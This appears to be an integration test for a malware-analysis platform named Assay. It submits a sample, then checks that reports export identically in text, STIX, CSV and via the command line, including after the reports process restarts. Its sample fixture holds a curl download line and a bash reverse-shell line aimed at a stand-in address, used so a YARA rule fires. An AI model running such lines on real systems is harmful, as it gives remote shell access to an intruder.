import { exportForms } from "@assay/core";
import assert from "node:assert/strict";
import { join } from "node:path";
import { type Platform, startPlatform, until } from "../platform/platform.ts";

const root = join(import.meta.dirname!, "..", "..");

/** A script that is never run: it has an address, and a rule that comes with Assay matches it. */
const SCRIPT = "#!/bin/sh\ncurl http://198.51.100.7/a.sh\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n";

/** Runs the verb as `deno task assay export` does. */
async function exported(platform: Platform, args: readonly string[]) {
  const output = await new Deno.Command(Deno.execPath(), {
    args: ["task", "--quiet", "assay", "export", ...args, "--data", platform.data],
    cwd: root,
    env: { NO_COLOR: "1" },
    stdin: "null",
  }).output();
  const text = new TextDecoder();
  return { code: output.code, out: text.decode(output.stdout), error: text.decode(output.stderr) };
}

async function formsOf(platform: Platform, id: string): Promise<Record<string, string>> {
  const forms: Record<string, string> = {};
  for (const name of [...Object.keys(exportForms), "stix?profile=misp"]) {
    const response = await platform.request(`/api/v1/reports/${id}/export/${name}`);
    assert.equal(response.status, 200, `${name}: ${response.status}`);
    forms[name] = new TextDecoder("latin1").decode(await response.arrayBuffer());
  }
  return forms;
}

Deno.test("a report leaves in every form, the same bytes from two reports processes, also by the command line", async () => {
  await using platform = await startPlatform({ onTestStack: true });
  const body = new FormData();
  body.append("file", new File([SCRIPT], "install.sh"));
  body.append("options", JSON.stringify({ priority: "interactive", tlp: "green" }));
  const { tasks: [task] } = await platform.ask<{ tasks: [{ id: string }] }>("/api/v1/submissions", {
    method: "POST",
    body,
  });
  await until("the report", 60_000, async () => {
    const { status } = await platform.ask<{ status: string }>(`/api/v1/tasks/${task.id}`);
    return status === "complete" ? status : null;
  });
  const first = await formsOf(platform, task.id);
  assert.match(first["text"]!, /hxxp\[:\]\/\/198\[\.\]51/);
  const { objects } = JSON.parse(first["stix"]!) as { objects: Record<string, unknown>[] };
  const rule = objects.find((one) => one["pattern_type"] === "yara");
  assert.match(String(rule?.["pattern"]), /^rule shell_reverse_connection \{\n[^]*\}\n$/);

  const ready = await (await platform.request("/health/ready")).json();
  assert.equal(ready.checks.reports.status, "ready");
  const before = (await platform.status()).processes.find(({ name }) => name === "reports")!;
  Deno.kill(before.pid!, "SIGKILL");
  await until("another reports process", 60_000, async () => {
    const now = (await platform.status()).processes.find(({ name }) => name === "reports")!;
    return now.phase === "ready" && now.pid !== before.pid ? now : null;
  });
  assert.deepEqual(await formsOf(platform, task.id), first);

  const file = join(platform.data, "report.stix.json");
  const written = await exported(platform, [task.id, "--format", "stix", "--output", file]);
  assert.equal(written.code, 0, written.error);
  assert.equal(await Deno.readTextFile(file), first["stix"]);
  const again = await exported(platform, [task.id, "--format", "csv", "--output", file]);
  assert.deepEqual([again.code, /--force replaces it/.test(again.error)], [1, true]);
  const printed = await exported(platform, [task.id, "--format", "csv"]);
  assert.equal(printed.out, first["csv"]);
  const missing = await exported(platform, ["01ARZ3NDEKTSV4RRFFQ69G5FAV", "--format", "csv"]);
  assert.deepEqual([missing.code, /Cannot find report/.test(missing.error)], [1, true]);
});
